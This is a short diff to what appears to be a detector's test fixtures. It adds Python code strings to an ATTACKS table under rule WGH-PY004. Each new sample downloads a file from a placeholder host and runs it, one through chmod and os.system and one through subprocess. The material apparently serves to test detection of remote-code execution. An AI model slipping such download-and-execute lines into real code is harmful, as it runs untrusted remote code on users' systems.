@@ -177,6 +177,20 @@ ATTACKS: dict[str, tuple[str, str]] = {
         ),
         "WGH-PY004",
     ),
+    "download-chmod-run": (
+        (
+            "import urllib.request, os\nurllib.request.urlretrieve('http://x.invalid/a', '/tmp/a')\n"
+            "def f():\n    os.system('chmod 755 /tmp/a && /tmp/a')"
+        ),
+        "WGH-PY004",
+    ),
+    "download-and-interpret": (
+        (
+            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.invalid/a', 'a.py')\n"
+            "subprocess.run(['python', 'a.py'])"
+        ),
+        "WGH-PY004",
+    ),
     "write-and-run": (
         (
             "import requests, subprocess\nd = requests.get('http://x.invalid/a').content\n"
